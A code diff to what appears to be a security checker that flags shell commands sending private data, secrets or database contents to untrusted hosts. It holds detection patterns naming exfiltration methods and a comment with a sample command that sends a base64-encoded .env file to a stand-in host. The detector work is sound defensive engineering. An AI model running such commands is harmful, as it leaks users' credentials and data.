@@ -13,7 +13,7 @@ import {
   SENSITIVE_DATA,
   type Finding,
 } from './findings.js';
-import { containsWord } from './named-targets.js';
+import { containsWord, databaseHosts } from './named-targets.js';
 import type { ParsedShell, SimpleCommand } from './shell.js';
 
 /** Finds a command line that sends private data, or any data to an untrusted host. */
@@ -36,7 +36,7 @@ export function checkExfiltration(
         'secret-in-message',
       );
     }
-    if (DNS_TOOLS.has(command.name) && /\$\(|`/.test(command.text)) {
+    if (resolvesNames(command) && /\$\(|`/.test(command.text)) {
       return SENSITIVE_DATA.test(raw)
         ? finding(
             'data-exfiltration',
@@ -49,19 +49,43 @@ export function checkExfiltration(
             'dns-probe',
           );
     }
+    const database = checkDatabaseUpload(command, messages);
+    if (database !== undefined) {
+      return database;
+    }
     if (
       !SENDERS.has(command.name) &&
       !/requests\.(?:post|put)|urllib|fetch\(|http\.client/.test(text)
     ) {
       continue;
     }
+    if (isLocalCopy(command)) {
+      continue;
+    }
+    const secretVariable = secretSentElsewhere(command, messages);
+    if (secretVariable !== undefined) {
+      return finding(
+        'credential-leakage',
+        `The command sends the secret variable ${secretVariable} to a host that is not its service`,
+        'secret-variable-sent',
+      );
+    }
     const redirectedIn = command.redirects.some(
       (redirect) =>
         (redirect.operator === '<' || redirect.operator === '<>') &&
         (SENSITIVE_DATA.test(redirect.target) || CREDENTIAL_PATH.test(redirect.target)),
     );
+    // Private data read in a command substitution, as in `curl "https://x/?d=$(base64 .env)"`.
+    const substitutedData =
+      /\$\(|`/.test(command.text) &&
+      parsed.commands.some(
+        (other) =>
+          other.via.includes('$()') &&
+          (SENSITIVE_DATA.test(other.argv.join(' ')) || CREDENTIAL_PATH.test(other.argv.join(' '))),
+      );
     const sendsData =
       redirectedIn ||
+      substitutedData ||
       /\s(?:-d|--data\S*|-F|--form|-T|--upload-file|--post-file|--body-file)\b|-X\s*(?:POST|PUT)|@-|@\S|files=|data=/.test(
         text,
       ) ||
@@ -78,12 +102,13 @@ export function checkExfiltration(
       }
       continue;
     }
+    // The environment contains tokens and keys, so a dump of it counts as private data too.
     const pipedData = parsed.commands.some(
       (other) =>
         other.pipeline !== undefined &&
         other.pipeline.id === command.pipeline?.id &&
         other !== command &&
-        SENSITIVE_DATA.test(other.argv.join(' ')),
+        (SENSITIVE_DATA.test(other.argv.join(' ')) || ENVIRONMENT_DUMP.test(other.argv.join(' '))),
     );
     const homeData =
       text.includes(`${homeDir}/`) || /(?:^|[\s'"=@(])~\/|\$HOME\b|\/etc\//.test(command.text);
@@ -92,6 +117,7 @@ export function checkExfiltration(
       SENSITIVE_DATA.test(text) ||
       CREDENTIAL_PATH.test(text) ||
       pipedData ||
+      substitutedData ||
       redirectedIn;
     // A raw IP address the user gave in a message is a host they chose, not a probe.
     const untrustedHost =
@@ -180,8 +206,12 @@ function publicAddressOf(args: readonly string[]): string | undefined {
   return undefined;
 }
 
+/**
+ * Network calls in inline code: HTTP clients of Python, Node, Ruby, Perl, PHP, Go and .NET,
+ * raw sockets, and any literal URL to a host other than this machine.
+ */
 const NETWORK_CODE =
-  /requests\.(?:post|put|get|patch)|urlopen|urllib|http\.client|socket\.|fetch\(|axios|https?\.request|XMLHttpRequest|Net::HTTP|LWP::|IO::Socket|Invoke-WebRequest|WebClient/;
+  /requests\.\w+\(|urlopen|urllib|http\.client|httpx|aiohttp|pycurl|socket\.|fetch\(|axios|\bgot\b|undici|superagent|needle|https?\.(?:request|get)\b|XMLHttpRequest|WebSocket|Net::HTTP|open-uri|URI\.open|Faraday|HTTParty|LWP::|HTTP::Tiny|IO::Socket|curl_exec|fsockopen|stream_socket_client|net\.Dial|http\.(?:Post|Get)\b|Invoke-WebRequest|Invoke-RestMethod|WebClient|HttpClient|\bhttps?:\/\/(?!localhost\b|127\.|\[::1\])/;
 const RAW_IP_OR_EXFIL_HOST = /(?:[a-z]+:\/\/|['"@])(?:\d{1,3}\.){3}\d{1,3}\b/;
 
 /** Checks inline interpreter code for network calls that carry private data, and for credential reads. */
@@ -222,6 +252,174 @@ function readsCredentials(parsed: ParsedShell): boolean {
     (command) =>
       command.argv.slice(1).some((arg) => CREDENTIAL_PATH.test(arg)) ||
       command.redirects.some((redirect) => CREDENTIAL_PATH.test(redirect.target)),
+  );
+}
+
+/** Commands that print the whole environment. */
+const ENVIRONMENT_DUMP = /^(?:env|printenv|export -p|set|declare -x)$/;
+
+/** Resolver tools beyond `DNS_TOOLS` whose lookups also leave the machine as DNS queries. */
+const RESOLVERS = new Set(['resolvectl', 'kdig', 'delv', 'dnsx', 'massdns']);
+
+/** Checks whether `command` looks up host names, which can carry data out in DNS queries. */
+function resolvesNames(command: SimpleCommand): boolean {
+  if (DNS_TOOLS.has(command.name) || RESOLVERS.has(command.name)) {
+    return true;
+  }
+  return command.name === 'getent' && /^a?hosts(?:v[46])?$/.test(command.argv[1] ?? '');
+}
+
+/** Checks whether an `rsync` or `scp` copies between local folders only, naming no `host:` operand. */
+function isLocalCopy(command: SimpleCommand): boolean {
+  if (command.name !== 'rsync' && command.name !== 'scp') {
+    return false;
+  }
+  const operands = command.argv.slice(1).filter((arg) => !arg.startsWith('-'));
+  return (
+    !command.dynamic &&
+    !command.argv.some((arg) => /^(?:-e|--rsh)(?:=|$)/.test(arg)) &&
+    operands.length >= 2 &&
+    operands.every((arg) => !/^(?:[\w.-]+@)?[\w.-]+:|^[a-z]+:\/\//i.test(arg))
+  );
+}
+
+/** A variable whose name marks a secret, such as `STRIPE_SECRET_KEY` or `GH_TOKEN`. */
+const SECRET_VARIABLE =
+  /\$\{?([A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|_KEY|_PAT|CREDENTIALS?)[A-Z0-9_]*)\}?/g;
+/** Words of a secret variable's name that say what it is, not which service it is for. */
+const SECRET_WORDS = /^(?:secret|token|access|private|password|passwd|credentials?|auth|keys?)$/;
+/** Short service prefixes of secret variables and the domain label of their service. */
+const SERVICE_ALIASES: Record<string, string> = {
+  gh: 'github',
+  gl: 'gitlab',
+  aws: 'amazonaws',
+  gcp: 'googleapis',
+  google: 'googleapis',
+  hf: 'huggingface',
+  npm: 'npmjs',
+  az: 'azure',
+  cf: 'cloudflare',
+  // GitLab CI names its predefined variables `CI_*`, such as `CI_JOB_TOKEN`.
+  ci: 'gitlab',
+};
+
+/**
+ * Returns the first secret variable that a sender puts into a request to a host that is not
+ * the secret's own service. The service is the variable's first word, so `$GITHUB_TOKEN` may
+ * go to `api.github.com` and `$STRIPE_SECRET_KEY` to `api.stripe.com`. `localhost` and hosts
+ * the user names also qualify. URLs with an IP address are left to the raw-address checks.
+ */
+function secretSentElsewhere(command: SimpleCommand, messages: string): string | undefined {
+  const hosts = command.argv
+    .slice(1)
+    .map(
+      (arg) =>
+        /^[a-z][a-z0-9+.-]*:\/\/(?:[^@/\s]*@)?([a-z0-9.-]+\.[a-z]{2,})(?:[:/?]|$)/i.exec(arg)?.[1],
+    )
+    .filter((host) => host !== undefined)
+    .map((host) => host.toLowerCase());
+  const untrusted = hosts.filter((host) => host !== 'localhost' && !containsWord(messages, host));
+  if (untrusted.length === 0) {
+    return undefined;
+  }
+  for (const arg of command.argv.slice(1)) {
+    for (const match of arg.matchAll(SECRET_VARIABLE)) {
+      const variable = match[1] ?? '';
+      const prefix = variable.split('_')[0]?.toLowerCase() ?? '';
+      const service = SERVICE_ALIASES[prefix] ?? prefix;
+      if (untrusted.some((host) => !servesSecret(host, service, variable))) {
+        return variable;
+      }
+    }
+  }
+  return undefined;
+}
+
+/**
+ * Checks whether `host` belongs to the service a secret variable is for: its domain is the
+ * service word (`api.github.com` for `GITHUB_TOKEN`), or a word of the variable's name starts
+ * with the domain (`hub.docker.com` for `DOCKERHUB_TOKEN`).
+ */
+function servesSecret(host: string, service: string, variable: string): boolean {
+  // Only the label before the top-level domain counts, so `github.com.example.net` is not GitHub.
+  const domain = host.split('.').at(-2) ?? '';
+  if (domain === service) {
+    return true;
+  }
+  return (
+    domain.length >= 4 &&
+    !SECRET_WORDS.test(domain) &&
+    variable
+      .toLowerCase()
+      .split('_')
+      .some((word) => word.startsWith(domain))
+  );
+}
+
+/** Database clients and loaders that write what they read into the database they connect to. */
+const DATABASE_LOADERS = new Set([
+  'psql',
+  'mysql',
+  'mariadb',
+  'mongosh',
+  'mongo',
+  'mongorestore',
+  'mongoimport',
+  'pg_restore',
+  'mysqlimport',
+  'redis-cli',
+  'clickhouse-client',
+  'sqlcmd',
+]);
+/** Statements that load a local file or standard input into the server. */
+const LOAD_STATEMENT = /\\copy\b[^;]*\bfrom\b|\bCOPY\b[^;]*\bFROM\s+STDIN\b|LOAD DATA LOCAL/i;
+
+/**
+ * Finds a database client that loads local data (piped in, redirected in, restored or
+ * imported) into a server that is not on this machine, not at a private address and not
+ * named by the user.
+ */
+function checkDatabaseUpload(command: SimpleCommand, messages: string): Finding | undefined {
+  if (!DATABASE_LOADERS.has(command.name)) {
+    return undefined;
+  }
+  const loads =
+    (command.pipeline?.index ?? 0) > 0 ||
+    command.redirects.some((redirect) => redirect.operator === '<') ||
+    /restore|import/.test(command.name) ||
+    LOAD_STATEMENT.test(command.argv.join(' '));
+  if (!loads) {
+    return undefined;
+  }
+  const foreign = databaseHosts(command).find(
+    (host) =>
+      !LOCAL_HOST.test(host) &&
+      !(isIP(host) !== 0 && isPrivateAddress(host)) &&
+      !namesHost(messages, host),
+  );
+  return foreign === undefined
+    ? undefined
+    : finding(
+        'data-exfiltration',
+        `The command loads local data into the database server ${foreign}, which the user did not name`,
+        'database-upload',
+      );
+}
+
+/** Loopback hosts and single-label names, such as a compose service `db`, which resolve on the local network. */
+const LOCAL_HOST = /^(?:localhost|127\.\d+\.\d+\.\d+|::1|\[::1\]|[\w-]+)$/i;
+
+/** Checks whether the user's messages name `host` or one of its distinctive labels. */
+function namesHost(messages: string, host: string): boolean {
+  if (containsWord(messages, host)) {
+    return true;
+  }
+  const labels = host.split('.').slice(0, -1);
+  return labels.some(
+    (label) =>
+      label.length >= 4 &&
+      !/^(?:\d+|www|database|mongo|mysql|postgres)$/.test(label) &&
+      containsWord(messages, label),
   );
 }
 
